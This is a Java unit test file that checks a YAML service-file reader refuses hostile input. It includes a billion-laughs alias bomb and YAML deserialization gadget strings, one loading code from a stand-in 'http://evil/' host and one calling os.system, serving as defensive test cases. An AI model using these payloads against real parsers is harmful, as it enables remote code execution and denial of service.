package org.atoll.kernel.internal.input;

import static org.atoll.kernel.internal.input.Inputs.assertRefused;
import static org.atoll.kernel.internal.input.Inputs.lines;
import static org.atoll.kernel.internal.input.Inputs.refused;
import static org.atoll.kernel.internal.input.Inputs.refusedFlocker;
import static org.atoll.kernel.internal.input.Inputs.servicefile;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Inputs written to hurt: each must be refused with a located, one-line-per-problem message, within the
 * time limit of {@link Inputs#refused}, and without any other exception escaping.
 */
class HostileInputTest {

    private static final String BILLION_LAUGHS = """
            a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
            b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
            c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
            d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
            e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
            f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
            g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
            h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
            i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
            """;

    /** Every line of the message is a located problem: nothing a value held can start a line of its own. */
    private static void assertOneLinePerProblem(InputException e) {
        assertEquals(e.located().size(), lines(e).size(), e.getMessage());
        for (String line : lines(e)) {
            assertTrue(line.matches("Servicefile:[0-9]+:[0-9]+: \\P{Cntrl}+"), line);
            assertFalse(line.contains("\u2028") || line.contains("\u2029") || line.contains("\r"), line);
        }
    }

    @Test
    void billionLaughsIsRefusedBeforeItExpands() {
        assertRefused(BILLION_LAUGHS,
                "Servicefile:1:1: uses more than 8 aliases of lists or maps; refusing it (is it a YAML bomb?)");
        assertEquals(List.of("deploy.yml:1:1: uses more than 8 aliases of lists or maps; refusing it (is it a YAML"
                + " bomb?)"), lines(refusedFlocker("trac: {image: clusterhq/trac}\n", BILLION_LAUGHS)));
    }

    @Test
    void aFewAliasesAreFineAndCostNothingExtra() {
        DeclaredServices d = servicefile("""
                web: {image: local/web, env: &common {REGION: eu, TIER: prod}}
                db: {image: local/db, env: *common}
                """);
        assertEquals(Map.of("REGION", "eu", "TIER", "prod"), d.services().get("db").env());
    }

    @Test
    void aliasesToThemselvesEndInAProblemNotALoop() {
        assertRefused("web: &w {image: local/web, env: *w}\n",
                "Servicefile:1:6: services.web.env.env: expected a string, found a map");
        assertRefused("web: {image: local/web, nodes: &n [a, *n]}\n",
                "Servicefile:1:32: services.web.nodes[1]: expected a string, found a list"); // where &n is
    }

    @Test
    void deepNestingIsRefused() {
        String flow = "web: {image: local/web, env: " + "[".repeat(100_000) + "]".repeat(100_000) + "}\n";
        assertRefused(flow, "Servicefile:1:1: is nested deeper than 16 levels");
        String maps = "web: " + "{a: ".repeat(5000) + "x" + "}".repeat(5000) + "\n";
        assertRefused(maps, "Servicefile:1:1: is nested deeper than 16 levels");
        String block = IntStream.range(0, 200).mapToObj(i -> " ".repeat(i) + "k" + i + ":")
                .collect(Collectors.joining("\n"));
        assertRefused(block, "Servicefile:1:1: is nested deeper than 16 levels");
    }

    @Test
    void hugeDocumentsAreRefusedUnread() {
        String huge = "web:\n  image: local/web\n  env:\n    A: \"" + "x".repeat(2 * 1024 * 1024) + "\"\n";
        assertRefused(huge, "Servicefile:1:1: is larger than 1 MiB (" + huge.length()
                + " characters); refusing to read it");
    }

    @Test
    void documentsWithTooManyElementsAreRefusedBeforeTheTreeIsBuilt() {
        String many = "web:\n  image: local/web\n  nodes: [" + "a,".repeat(60_000) + "a]\n";
        assertRefused(many, "Servicefile:1:1: has more than 50000 elements; refusing it");
    }

    @Test
    void thousandsOfProblemsAreCountedButNotAllPrinted() {
        String text = "web:\n  image: local/web\n" + IntStream.range(0, 5000).mapToObj(i -> "  k" + i + ": 1\n")
                .collect(Collectors.joining());
        InputException e = refused(text);
        assertEquals(InputException.MAX_LINES + 1, lines(e).size());
        assertEquals("… and 4900 more problems", lines(e).get(InputException.MAX_LINES));
        assertEquals(Report.MAX_PROBLEMS, e.located().size());
        assertEquals(4000, e.omitted());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]",
        "!!python/object/apply:os.system [\"id\"]",
        "!<tag:evil.example,2024:thing> x",
        "!local x",
        "!!binary aGVsbG8=",
        "!!set {a, b}",
        "!!omap [a: 1]",
        "!!java.io.File /etc/passwd"})
    void customTagsAreRefused(String value) {
        InputException e = refused("web:\n  image: local/web\n  cmd: " + value + "\n");
        assertTrue(e.getMessage().startsWith("Servicefile:3:8: the tag \"!"), e.getMessage());
        assertTrue(e.getMessage().contains("is not allowed; only plain strings, numbers, lists and maps are"),
                e.getMessage());
    }

    @Test
    void standardTagsAreAllowed() {
        DeclaredServices d = servicefile("web: {image: !!str local/web, count: !!int 2, env: !!map {A: !!str 1}}\n");
        assertEquals(2, d.services().get("web").count());
    }

    @Test
    void mergeKeysAreRefused() {
        assertRefused("""
                base: &base {image: local/web}
                web:
                  <<: *base
                  count: 2
                """,
                "Servicefile:2:1: services.web.image: is required",
                "Servicefile:3:3: merge keys (<<) are not supported; write the keys out");
    }

    @Test
    void nonStringKeysAreRefused() {
        assertRefused("""
                80: {image: local/web}
                [a, b]: {image: local/web}
                ? {a: b}
                : {image: local/web}
                web:
                  image: local/web
                  env: {1: a, true: b, ~: c, 2024-01-01: d, ON: e, "OK": f}
                """,
                "Servicefile:1:1: keys must be text, found the number \"80\" (quote it)",
                "Servicefile:2:1: keys must be text, found a list",
                "Servicefile:3:3: keys must be text, found a map",
                "Servicefile:7:9: services.web.env: keys must be text, found the number \"1\" (quote it)",
                "Servicefile:7:15: services.web.env: keys must be text, found the boolean \"true\" (quote it)",
                "Servicefile:7:24: services.web.env: keys must be text, found nothing",
                "Servicefile:7:30: services.web.env: keys must be text, found the date \"2024-01-01\" (quote it)",
                "Servicefile:7:45: services.web.env: keys must be text, found the boolean \"ON\" (quote it)");
    }

    @Test
    void rawControlCharactersAreRefusedByTheReader() {
        assertRefused("web:\n  image: a\u0000b\n",
                "Servicefile:2:11: contains the character U+0000, which YAML does not allow");
        assertRefused("web:\n  image: a\u0007b\n",
                "Servicefile:2:11: contains the character U+0007, which YAML does not allow");
        assertRefused("web:\n  image: a\uD800b\n",
                "Servicefile:2:11: contains the character U+D800, which YAML does not allow");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\0", "\\n", "\\r", "\\u2028", "\\u2029", "\\t", "\\e", "\\x85"})
    void escapedControlCharactersInNamesKeysAndValuesAreRefused(String escape) {
        String text = """
                "we%1$sb":
                  image: local/web
                web:
                  image: "local/web%1$s"
                  env: {"A%1$sB": x}
                  nodes: ["s1%1$s"]
                  volumes: {"da%1$sta": /srv, data: "/srv%1$s"}
                  links: ["db%1$s:80"]
                  checks: [{name: "up%1$s", type: tcp, target: "80%1$s"}]
                  ports: ["80%1$s"]
                db: {image: local/db}
                Domains:
                  "example.org%1$s": {http: "a:b%1$s", auth: {"user%1$s": x}}
                """.formatted(escape);
        InputException e = refused(text);
        assertOneLinePerProblem(e);
        List<String> fields = e.located().stream().map(InputProblem::field).toList();
        for (String field : List.of("services.web.image", "services.web.env", "services.web.nodes[0]",
                "services.web.volumes", "services.web.volumes.data", "services.web.links[0].service",
                "services.web.checks[0].name", "services.web.checks[0].target", "services.web.ports[0]")) {
            assertTrue(fields.contains(field), field + " not in\n" + e.getMessage());
        }
        assertTrue(fields.stream().anyMatch(f -> f.startsWith("services.\"we\\u")), e.getMessage());
        String domain = "domains.\"example.org\\u";
        for (String field : List.of("", ".http", ".auth")) {
            assertTrue(fields.stream().anyMatch(f -> f.startsWith(domain) && f.endsWith("\"" + field)),
                    field + "\n" + e.getMessage());
        }
    }

    @Test
    void envValuesAndArgumentsMayHoldLineBreaksButNeverNul() {
        DeclaredServices d = servicefile("""
                web:
                  image: local/web
                  cmd: ["echo", "two\\nlines"]
                  env: {CERT: "-----BEGIN-----\\nabc\\r\\n-----END-----\\u2028"}
                """);
        assertEquals("-----BEGIN-----\nabc\r\n-----END-----\u2028", d.services().get("web").env().get("CERT"));
        assertRefused("""
                web:
                  image: local/web
                  cmd: ["a\\0"]
                  env: {A: "x\\0y"}
                """,
                "Servicefile:3:9: services.web.cmd[0]: contains a NUL character",
                "Servicefile:4:12: services.web.env.A: contains a NUL character");
    }

    @Test
    void longStringsAreRefusedWithShortMessages() {
        String big = "x".repeat(64 * 1024);
        InputException e = refused("""
                ? %1$s
                : image: local/web
                web:
                  image: "%1$s"
                  cmd: ["%1$s"]
                  env:
                    A: "%1$s"
                    ? "%1$s"
                    : x
                  nodes: ["%1$s"]
                Domains:
                  ? "%1$s.org"
                  : {http: "a:b"}
                """.formatted(big));
        assertOneLinePerProblem(e);
        for (String line : lines(e)) {
            assertTrue(line.length() < 400, () -> line.length() + ": " + line.substring(0, 300));
        }
        List<String> fields = e.located().stream().map(InputProblem::field).toList();
        assertEquals(List.of("", "services.web.image", "services.web.cmd[0]", "services.web.env.A",
                "services.web.env", "services.web.nodes[0]", "domains"), fields, e.getMessage());
        assertEquals("Servicefile:4:10: services.web.image: \"" + "x".repeat(64) + "…(65536 characters)\" is not a"
                + " valid image reference (e.g. local/web:1 or registry:5000/team/app@sha256:…)", lines(e).get(1));
    }

    @Test
    void longPlainKeysAreASyntaxErrorWithAHint() {
        assertRefused("x".repeat(2000) + ": {image: local/web}\n",
                "Servicefile:1:2001: is not valid YAML: mapping values are not allowed here; a key on one line may be"
                        + " at most 1024 characters long");
    }

    @Test
    void bothFlockerFilesAreCheckedAndReportedTogether() {
        InputException e = refusedFlocker("trac: {image: !!javax.script.ScriptEngineManager x}\n",
                "nodes: " + "[".repeat(50) + "]".repeat(50) + "\n");
        assertEquals(List.of(
                "apps.yml:1:15: the tag \"!!javax.script.ScriptEngineManager\" is not allowed; only plain strings,"
                        + " numbers, lists and maps are",
                "deploy.yml:1:1: is nested deeper than 16 levels"), lines(e));
    }

    @Test
    void missingTextIsAnEmptyFile() {
        assertRefused(null, "Servicefile:1:1: is empty");
    }

    @Test
    void multipleDocumentsAreRefused() {
        assertRefused("web: {image: local/web}\n---\ndb: {image: local/db}\n",
                "Servicefile:2:1: is not valid YAML: but found another document (expected a single document in"
                        + " the stream)");
    }

    @Test
    void tabsForIndentationArePlaced() {
        InputException e = refused("web:\n\timage: local/web\n");
        assertTrue(e.getMessage().startsWith("Servicefile:2:1: is not valid YAML: "), e.getMessage());
    }
}
